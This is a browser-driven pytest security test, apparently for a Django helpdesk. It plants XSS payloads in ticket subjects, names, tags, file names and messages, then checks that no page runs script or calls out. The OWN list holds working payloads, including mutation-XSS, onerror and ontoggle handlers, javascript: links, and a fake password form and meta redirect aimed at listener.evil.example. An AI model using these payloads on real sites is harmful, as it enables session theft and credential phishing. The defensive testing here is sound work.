"""SEC-01 on the real pages: what customers choose (words, names, file names) runs nothing, asks nobody, leaves no form.

Every third payload of tests/data/xss goes through the door of messages (`TEST_ALL_PAYLOADS=1`: all of them); 130 are also
subject, person's name, organisation's name, tag and file name. A real browser then reads them wherever the desk shows them. A breach of the
policy counts as well: the policy is the second wall, and nothing may reach it.
"""

import json
import os

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from accounts.actors import Actor
from accounts.models import Organization, User
from support.actions.add_note import add_note
from support.actions.reply import reply
from support.models import Attachment, Follower, Tag, Ticket
from tests.factories.accounts import OrganizationFactory, UserFactory
from tests.factories.support import make_ticket
from tests.safety.rig import stored_file

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]
LISTENER = "http://listener.evil.example"
OWN = [
    "<scr<script>ipt>window.ran.push('n')</scr</script>ipt>",
    "<svg><script>window.ran.push('svg')</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran.push('m')&gt;\">",
    f"<meta http-equiv=refresh content='0;url={LISTENER}/'>",
    f"<base href={LISTENER}/>",
    f"<form action={LISTENER}/><input name=password><button>Sign in</button></form>",
    "<iframe srcdoc=\"<script>parent.ran.push('s')</script>\"></iframe>",
    f"<style>@import '{LISTENER}/a.css'; body{{background:url({LISTENER}/b)}}</style>",
    f"<link rel=stylesheet href={LISTENER}/c.css><img src={LISTENER}/d.png>![x]({LISTENER}/e.png)",
    "[x](&#106;avascript:window.ran.push('e')) [y](java\tscript:alert(1)) <jAvAsCrIpT:alert(1)>",
    "\"><img src=x onerror=window.ran.push(1)>'><svg/onload=window.ran.push(2)>{{7*7}}",
    "</title></textarea></script><script>window.ran.push('t')</script>",
    "'\"/><details open ontoggle=window.ran.push('d')>",
]
WATCH = """
window.ran = [];
for (const name of ['alert', 'prompt', 'confirm', 'print']) window[name] = () => window.ran.push(name);
document.addEventListener('securitypolicyviolation', e => window.ran.push('policy ' + e.effectiveDirective + ' ' + e.sample));
"""
LEFT = """() => {
  const bad = [...window.ran];
  const tell = (what, e) => bad.push(what + ' ' + e.outerHTML.slice(0, 160));
  const here = location.origin + '/';
  for (const e of document.querySelectorAll('script')) if (!e.src.startsWith(here + 'static/') && e.src !== here + 'admin/jsi18n/') tell('script', e);
  for (const e of document.querySelectorAll('base, iframe, object, embed, frame, applet, style, math, meta[http-equiv], portal'))
    tell('element', e);
  for (const e of document.querySelectorAll('form')) if (!new URL(e.getAttribute('action') || '', location.href).href.startsWith(here)) tell('form', e);
  for (const e of document.querySelectorAll('.prose form, .prose input, .prose button, .prose script, .prose link, .prose svg, h1 *, .subject *'))
    if (!e.closest('h1 a, a h1') && e.matches('form, input, button, script, link, svg, img')) tell('inside', e);
  // Django's own pickers place themselves by script, which the policy allows.
  for (const e of document.querySelectorAll('*')) if (!e.closest('.select2, .calendarbox, .clockbox')) for (const a of e.attributes) {
    if (/^on/i.test(a.name) || ['srcdoc', 'formaction', 'ping', 'style'].includes(a.name)) tell('attribute ' + a.name, e);
    if (['href', 'src', 'action', 'data', 'xlink:href'].includes(a.name) && /^[\\s\\x00-\\x20]*(javascript|vbscript|data):/i.test(a.value)
        && !(e.tagName === 'IMG' && /^data:image\\//.test(a.value))) tell('address', e);
    if (a.name === 'src' && new URL(a.value, location.href).origin !== location.origin && !/^(data|blob):/.test(a.value)) tell('loads', e);
  }
  return bad;
}"""


def texts_of_attacks() -> list[str]:
    lines = (settings.BASE_DIR / "tests/data/xss/payloads.jsonl").read_text().splitlines()
    rows = [json.loads(line) for line in lines]
    texts = [text for row in rows if (text := row.get("input", row.get("markdown", "")).replace("\x00", "")).strip()]
    return OWN + (texts if os.environ.get("TEST_ALL_PAYLOADS") else texts[::3])


@pytest.fixture
def payloads():
    return texts_of_attacks()


def hostile_desk(cast, payloads):
    """File everything; return the tickets whose conversation holds all payloads."""
    short = [text for text in payloads if len(" ".join(text.split())) <= 200 and "<" in text][
        :: max(1, len(payloads) // 600)
    ][:117]
    subjects = [*OWN, *short]
    assert len(subjects) >= 120
    tickets = []
    for index, text in enumerate(subjects):
        words = " ".join(text.split())[:200]
        organization = OrganizationFactory(name=f"{index} {words}"[:100], tier=cast.acme.tier)
        person = UserFactory(display_name=words[:100], organization=organization)
        ticket = make_ticket(person, subject=words, body=text)
        Follower.objects.create(ticket=ticket, user=cast.alice)
        tickets.append(ticket)
    # A fence makes code of what follows it, so what has one comes last in its message.
    chunks = [
        sorted(payloads[at : at + 200], key=lambda text: "```" in text or "~~~" in text)
        for at in range(0, len(payloads), 200)
    ]
    tags = Tag.objects.bulk_create([Tag(name=f"{i}{text.lower()}"[:40]) for i, text in enumerate(subjects[:100])])
    gwen, full = Actor.person(cast.gwen), tickets[: len(chunks)]
    for index, (ticket, chunk) in enumerate(zip(full, chunks, strict=True)):
        files = []
        for text in subjects[index * 5 : index * 5 + 5]:
            file = stored_file(cast.gwen, "x.txt", "words")
            Attachment.objects.filter(pk=file.pk).update(name=text.replace("/", "∕")[:150])
            files.append(Attachment.objects.get(pk=file.pk))
        reply(ticket, by=gwen, body="\n\n".join(chunk)[:99_000], attachments=files)
        add_note(ticket, by=gwen, body="\n\n".join(chunk)[:99_000])
        ticket.tags.set(tags[index * 5 : index * 5 + 5])
    return full


def test_sec_01_no_page_runs_asks_or_keeps_anything_of_what_customers_wrote(
    cast, payloads, chrome, live_server, run_reactions
):
    full = hostile_desk(cast, payloads)
    run_reactions()
    User.objects.filter(pk=cast.alice.pk).update(display_name=OWN[10][:100])
    Organization.objects.filter(pk=cast.acme.pk).update(name=OWN[11][:100])
    asked: list[str] = []
    faults: list[str] = []

    def browser(user):
        context = chrome.new_context(base_url=live_server.url)
        client = Client()
        client.force_login(user)
        cookie = client.cookies[settings.SESSION_COOKIE_NAME]
        context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": live_server.url}])
        context.add_init_script(WATCH)
        # What is asked of ourselves is answered; anything else is the listener.
        context.route(
            lambda url: not url.startswith((live_server.url + "/", "data:", "blob:")),
            lambda route: (asked.append(route.request.url), route.abort()),
        )
        page = context.new_page()
        page.on("dialog", lambda dialog: (faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: faults.append("popup"))
        return page

    def read(page, path):
        page.goto(path, wait_until="load")
        faults.extend(f"{path}: {what}" for what in page.evaluate(LEFT))
        assert page.url.startswith(live_server.url), f"{path} led to {page.url}"

    numbers = [ticket.pk for ticket in full]
    customer, desk = browser(cast.alice), browser(cast.ada)
    listed = Ticket.objects.count()
    edges = [max(Ticket.objects.values_list("pk", flat=True)) + 1 - 25 * step for step in range(-(-listed // 25))]
    for path in (
        reverse("portal:home"), reverse("accounts:profile"), reverse("account_pages:organization"),
        reverse("account_pages:mail"), reverse("support:ticket_new"),
        *(f"{reverse('support:ticket_list')}?before={edge}" for edge in edges),
        *(reverse("support:ticket", args=[number]) for number in numbers),
    ):  # fmt: skip
        read(customer, path)
    mails = reverse("console:outbox")
    queue, page_urls = reverse("console:queue") + "?view=all", []
    desk_client = Client()
    desk_client.force_login(cast.ada)
    while queue:
        page_urls.append(queue)
        queue = desk_client.get(queue).context["after_url"]
    letters = {}
    from notifications.models import OutgoingMail

    for mail in OutgoingMail.objects.filter(ticket_number__in=numbers, kind="reply"):
        letters.setdefault(mail.ticket_number, mail)
    assert letters
    for path in (
        reverse("admin:index"), *page_urls, mails, reverse("console:deliveries"),
        *(reverse("console:ticket", args=[number]) for number in numbers),
        *(reverse("console:timeline", args=[number]) for number in numbers[:4]),
        *(reverse("console:earlier", args=[number]) for number in numbers[:4]),
        *(reverse("console:outbox_mail", args=[mail.pk]) for mail in list(letters.values())[:6]),
        *(reverse(f"admin:{model}_changelist") for model in ("accounts_user", "accounts_organization", "accounts_membership", "support_tag")),
        reverse("admin:accounts_organization_change", args=[full[0].organization_id]),
        reverse("admin:accounts_user_change", args=[full[0].requester_id]),
    ):  # fmt: skip
        read(desk, path)
    customer.context.close()
    desk.context.close()
    assert asked == []
    assert faults == [], "\n".join(faults)


def test_sec_01_a_fragment_a_preview_and_the_palette_are_as_safe(cast, payloads, chrome, live_server, signed_in):
    """What scripts fetch and put into a page: previews, news, search as one types, JSON."""
    text = "\n\n".join(payloads[:600])[:90_000]
    ticket = make_ticket(cast.alice, subject=OWN[10][:200], body=text)
    customer, desk = signed_in(cast.alice), signed_in(cast.gwen)
    fragments = [
        customer.post(reverse("support:preview"), {"body": text}),
        customer.get(reverse("support:ticket_news", args=[ticket.pk]) + "?since=0&show=1"),
        customer.get(reverse("support:ticket_list"), headers={"HX-Target": "tickets"}),
        desk.get(reverse("console:earlier", args=[ticket.pk]), headers={"HX-Request": "true"}),
        desk.get(reverse("console:people") + "?assignee=" + "%3Cimg src=x onerror=alert(1)%3E"),
    ]
    palette = desk.get(reverse("console:palette") + f"?q={ticket.pk}")
    assert palette["Content-Type"] == "application/json" and palette["X-Content-Type-Options"] == "nosniff"
    page = chrome.new_page()
    asked: list[str] = []
    try:
        page.add_init_script(WATCH)
        page.route(
            lambda url: not url.startswith(live_server.url + "/"),
            lambda route: (asked.append(route.request.url), route.abort()),
        )
        page.goto(live_server.url + reverse("portal:home"))
        for fragment in fragments:
            assert fragment.status_code == 200
            page.evaluate("html => { document.body.innerHTML = html }", fragment.content.decode())
            page.wait_for_timeout(50)
            assert page.evaluate(LEFT) == []
    finally:
        page.close()
    assert asked == []
